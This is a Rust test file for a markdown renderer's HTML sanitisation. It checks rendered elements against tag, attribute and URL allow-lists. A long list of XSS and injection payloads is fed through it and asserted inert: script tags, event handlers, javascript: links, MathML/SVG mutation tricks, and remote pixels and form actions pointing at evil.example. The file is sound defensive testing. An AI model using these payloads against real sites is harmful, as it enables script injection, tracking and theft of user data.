//! No message can make the page run, fetch or imitate anything.

use std::collections::{HashMap, HashSet};
use std::rc::Rc;

use colloquy::markdown::{Direct, Element, Namespace, Stream, Token, render, render_tokens};

use super::equality::{commonmark, gfm};

const HTML: &[&str] = &[
    "a",
    "abbr",
    "b",
    "blockquote",
    "br",
    "button",
    "caption",
    "cite",
    "code",
    "dd",
    "del",
    "details",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "img",
    "input",
    "ins",
    "kbd",
    "li",
    "mark",
    "ol",
    "p",
    "pre",
    "q",
    "s",
    "samp",
    "section",
    "small",
    "span",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "tr",
    "u",
    "ul",
    "var",
    "wbr",
];
const ATTRIBUTES: &[&str] = &[
    "align",
    "alt",
    "checked",
    "class",
    "colspan",
    "data-alt",
    "data-footnote",
    "data-src",
    "disabled",
    "href",
    "open",
    "rel",
    "rowspan",
    "src",
    "start",
    "tabindex",
    "target",
    "type",
    "value",
];
const CLASSES: &[&str] = &[
    "alert alert-caution",
    "alert alert-important",
    "alert alert-note",
    "alert alert-tip",
    "alert alert-warning",
    "alert-title",
    "blocks",
    "code",
    "code-chunk",
    "code-lang",
    "footnote-ref",
    "footnotes",
    "loose",
    "math-pending",
    "math-source",
    "remote-image",
    "table-scroll",
];

/// The rules for every element that is ever put into the page, finished or not.
#[track_caller]
pub fn assert_safe(element: &Element, source: &str) {
    let name = element.name();
    if element.namespace() == Namespace::MathMl {
        assert!(
            name == "math" || name.starts_with('m'),
            "{name} from {source:?}"
        );
        for (attribute, value) in element.attributes() {
            assert!(!attribute.starts_with("on"), "{attribute} from {source:?}");
            assert!(!["href", "src", "style", "id", "xlink:href"].contains(&attribute));
            assert!(!value.contains("script"), "{value} from {source:?}");
        }
        return;
    }
    assert!(HTML.contains(&name), "<{name}> from {source:?}");
    for (attribute, value) in element.attributes() {
        assert!(
            ATTRIBUTES.contains(&attribute),
            "{attribute} from {source:?}"
        );
        let starts = |prefixes: &[&str]| {
            let value = value.to_ascii_lowercase();
            prefixes.iter().any(|prefix| value.starts_with(prefix))
        };
        let allowed = match attribute {
            "href" => starts(&["http://", "https://", "mailto:", "tel:"]),
            "src" => starts(&[
                "data:image/png;",
                "data:image/jpeg;",
                "data:image/gif;",
                "data:image/webp;",
            ]),
            "data-src" => name == "button" && starts(&["http://", "https://"]),
            "class" => {
                CLASSES.contains(&value)
                    || name == "code" && value.starts_with("language-") && !value.contains(' ')
            }
            "type" => {
                (name, value) == ("button", "button") || (name, value) == ("input", "checkbox")
            }
            "target" => value == "_blank",
            _ => true,
        };
        assert!(allowed, "{attribute}={value:?} from {source:?}");
    }
    if name == "a" {
        assert!(
            element
                .attributes()
                .any(|(name, value)| name == "rel" && value == "noopener noreferrer")
        );
    }
}

/// Checks all that is put into the page while the message streams in, character by character, and at once.
#[track_caller]
pub fn assert_all_safe(source: &str) {
    let check = |tokens: &[Token]| {
        for token in tokens {
            if let Token::Open(element) = token {
                assert_safe(element, source);
            }
        }
    };
    check(&render_tokens(source));
    let mut stream = Stream::new(Rc::new(Direct));
    for character in source.split_inclusive(|_| true) {
        check(&stream.push(character).tokens);
    }
    check(&stream.finish().tokens);
}

const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "a <script>alert(1)</script> b",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "text <img src=x onerror=alert(1)> text",
    "<img src=\"https://evil.example/pixel.gif\">",
    "text <img src=\"https://evil.example/pixel.gif\"> text",
    "<img srcset=\"https://evil.example/a 1x\" src=data:,>",
    "<picture><source srcset=\"https://evil.example/a\"><img></picture>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><use href=\"https://evil.example/x.svg#a\"/></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><style>@import 'https://evil.example'</style></svg>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"https://evil.example\"></object>",
    "<embed src=\"https://evil.example\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<base href=\"https://evil.example/\">",
    "<style>body{background:url(https://evil.example)}</style>",
    "<div style=\"background:url(https://evil.example)\">x</div>",
    "<p style=\"position:fixed;top:0\">x</p>",
    "<b style=\"x\">x</b> and <b onclick=alert(1)>y</b>",
    "<table background=\"https://evil.example/x.png\"><tr><td>x</table>",
    "<video src=\"https://evil.example/v.mp4\" autoplay></video>",
    "<audio src=\"https://evil.example/a.mp3\"></audio>",
    "<video poster=\"https://evil.example/p.png\">",
    "<input type=image src=\"https://evil.example\">",
    "<input autofocus onfocus=alert(1)>",
    "<button onclick=alert(1)>x</button>",
    "<button class=\"remote-image\" data-src=\"https://evil.example/x\">Load</button>",
    "<span class=\"remote-image\" data-src=\"https://evil.example/x\">Load</span>",
    "a <button type=\"button\" class=\"remote-image\" data-src=\"https://evil.example/x\">Load</button>",
    "<form action=\"https://evil.example\"><input name=key></form>",
    "<textarea><script>alert(1)</script></textarea>",
    "<select><option><script>alert(1)</script></select>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<title><script>alert(1)</script></title>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<html><head><script>alert(1)</script></head></html>",
    "<frameset onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "a <a href=\"javascript:alert(1)\">x</a>",
    "a <a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "a <a href=\" javascript:alert(1)\">x</a>",
    "a <a href=\"java&#10;script:alert(1)\">x</a>",
    "a <a href=\"&#106;avascript:alert(1)\">x</a>",
    "a <a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "a <a href=\"vbscript:msgbox(1)\">x</a>",
    "a <a href=\"blob:https://evil.example/x\">x</a>",
    "a <a href=\"https://ok.example\" onclick=\"alert(1)\" style=\"x\" id=\"x\" class=\"x\" target=\"_self\">x</a>",
    "a <a id=x name=y href=\"//evil.example\">x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\u{1}javascript:alert(1))",
    "[x](\u{2}javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/relative)",
    "[x](https://ok.example\"onclick=\"alert(1))",
    "[x](https://ok.example \"title\\\" onclick=alert(1)\")",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](https://evil.example/pixel.gif)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](data:text/html;base64,PHN2Zz4=)",
    "![x](data:image/png;base64,\" onerror=\"alert(1))",
    "![x](data:image/png;base64,AAAA)",
    "![\"><script>alert(1)</script>](https://evil.example/x.png)",
    "![x][y]\n\n[y]: https://evil.example/x.png",
    "[![x](https://evil.example/x.png)](javascript:alert(1))",
    "https://ok.example/\"onmouseover=\"alert(1)",
    "https://ok.example/<script>alert(1)</script>",
    "www.ok.example/'><script>alert(1)</script>",
    "a@b.example\"onclick=alert(1)",
    "```\"onclick=alert(1)\nx\n```",
    "```x\" onclick=\"alert(1)\nx\n```",
    "```<script>\n</code></pre><script>alert(1)</script>\n```",
    "```remote-image code\nx\n```",
    "`</code><script>alert(1)</script>`",
    "# <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "[^<script>]: <script>alert(1)</script>\n\n[^<script>]",
    "[^\"onclick=alert(1)]\n\n[^\"onclick=alert(1)]: x",
    "$\\text{<script>alert(1)</script>}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\style{background:url(https://evil.example)}{x}$$",
    "$\\class{remote-image}{x}$",
    "$\\includegraphics{https://evil.example/x.png}$",
    "$\\unicode{<script>}$",
    "$\\color{\"onclick=alert(1)}{x}$",
    "$\\textcolor{url(https://evil.example)}{x}$",
    "$<img src=x onerror=alert(1)>$",
    "$\\frac{<script>$ alert(1) $</script>}$",
    "\\[ </math><script>alert(1)</script> \\]",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<!-- <img title=\"--><img src=x onerror=alert(1)>\"> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<!DOCTYPE x [<!ENTITY y \"<script>\">]>",
    "<p title=\"<script>alert(1)</script>\">x</p>",
    "<x-custom onclick=alert(1)>x</x-custom>",
    "<b/onclick=alert(1)>x</b>",
    "<div\u{0}onclick=alert(1)>x</div>",
    "<a\tHREF=\"https://ok.example\"\tONCLICK=alert(1)>x</a>",
    "<li class=x>stray</li><td>stray</td><dd>stray",
    "<ul><li><script>alert(1)</script></li></ul>",
];

#[test]
fn attacks_are_inert() {
    for attack in ATTACKS {
        assert_all_safe(attack);
        assert_all_safe(&format!("text\n\n{attack}\n\nmore"));
        assert_all_safe(&format!("- item\n  {}\n", attack.replace('\n', "\n  ")));
    }
}

#[test]
fn examples_are_safe() {
    for example in commonmark().into_iter().chain(gfm()) {
        assert_all_safe(&example.markdown);
    }
}

/// What an HTML parser makes of the HTML is what was written: nothing is moved, closed early or reread. An
/// ammonia that allows just what is ever written, and writes what it parsed, leaves it as it is.
#[test]
fn html_parses_to_what_was_written() {
    let mut cleaner = ammonia::Builder::empty();
    let mathml = [
        "math",
        "mi",
        "mn",
        "mo",
        "mrow",
        "mfrac",
        "msub",
        "msup",
        "msubsup",
        "mover",
        "munder",
        "munderover",
        "msqrt",
        "mroot",
        "mtable",
        "mtr",
        "mtd",
        "mtext",
        "mspace",
        "mstyle",
        "mpadded",
        "mphantom",
        "menclose",
    ];
    let attributes: HashSet<&str> = ATTRIBUTES
        .iter()
        .copied()
        .filter(|name| *name != "rel")
        .collect();
    cleaner
        .tags(HTML.iter().copied().chain(mathml).collect())
        .clean_content_tags(HashSet::new())
        .tag_attributes(HashMap::from([("a", HashSet::from(["rel"]))]))
        .generic_attributes(
            attributes
                .into_iter()
                .chain([
                    "display",
                    "stretchy",
                    "lspace",
                    "rspace",
                    "mathvariant",
                    "accent",
                    "accentunder",
                    "width",
                    "displaystyle",
                    "scriptlevel",
                    "movablelimits",
                    "minsize",
                    "maxsize",
                    "linethickness",
                    "alttext",
                    "form",
                    "mathcolor",
                    "columnspan",
                ])
                .collect(),
        )
        .url_schemes(HashSet::from(["http", "https", "mailto", "tel", "data"]))
        .link_rel(None);
    let examples = commonmark()
        .into_iter()
        .chain(gfm())
        .map(|example| example.markdown);
    for source in examples.chain(ATTACKS.iter().map(|attack| (*attack).to_owned())) {
        let html = render(&source).into_string();
        assert_eq!(cleaner.clean(&html).to_string(), html, "from {source:?}");
    }
}
